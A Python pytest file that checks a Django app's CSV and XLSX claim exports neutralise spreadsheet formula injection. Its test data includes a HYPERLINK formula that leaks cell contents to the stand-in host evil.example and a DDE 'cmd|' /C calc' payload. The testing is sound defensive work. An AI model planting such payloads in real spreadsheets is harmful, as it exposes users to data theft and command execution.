"""Text that a spreadsheet would run as a formula leaves every export inert: apostrophe-prefixed in CSV, a
string cell in XLSX. Numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from click.testing import CliRunner
from django.core.cache import cache
from openpyxl import load_workbook

from coalition.cli import main
from coalition.exports.rows import COLUMNS
from coalition.vocab import ReviewStatus
from tests.factories import ClaimFactory, SourceDocumentFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TEXTS = {"document_title": HYPERLINK, "mission": "@SUM(1+1)*cmd|' /C calc'!A0", "document_source_url": "-2+3"}


@pytest.fixture
def poisoned(norway):
    cache.clear()
    document = SourceDocumentFactory(partner=norway, title=HYPERLINK, source_url=TEXTS["document_source_url"])
    return ClaimFactory(document=document, status=ReviewStatus.ACCEPTED, mission=TEXTS["mission"])


def _check_csv(text: str) -> None:
    (row,) = list(csv.DictReader(io.StringIO(text)))
    for column, value in TEXTS.items():
        assert row[column] == "'" + value
    assert row["value"] == "5000000.00" and row["version"] == "1"
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(starts) for cell in row.values())


def test_api_csv_neutralises_formulas(client, poisoned):
    response = client.get("/api/v1/claims/?format=csv")
    _check_csv(b"".join(response.streaming_content).decode())


def test_cli_csv_neutralises_formulas(poisoned):
    result = CliRunner().invoke(main, ["export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    _check_csv(result.output)


def test_xlsx_writes_text_as_strings_and_numbers_as_numbers(poisoned, tmp_path):
    path = tmp_path / "claims.xlsx"
    result = CliRunner().invoke(main, ["export", "--format", "xlsx", "--output", str(path)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)
    row = list(load_workbook(path)["claims"].iter_rows(min_row=2))[0]
    cells = dict(zip(COLUMNS, row, strict=True))
    for column, value in TEXTS.items():
        assert (cells[column].value, cells[column].data_type) == (value, "s")
    assert (cells["value"].value, cells["value"].data_type) == (5_000_000, "n")
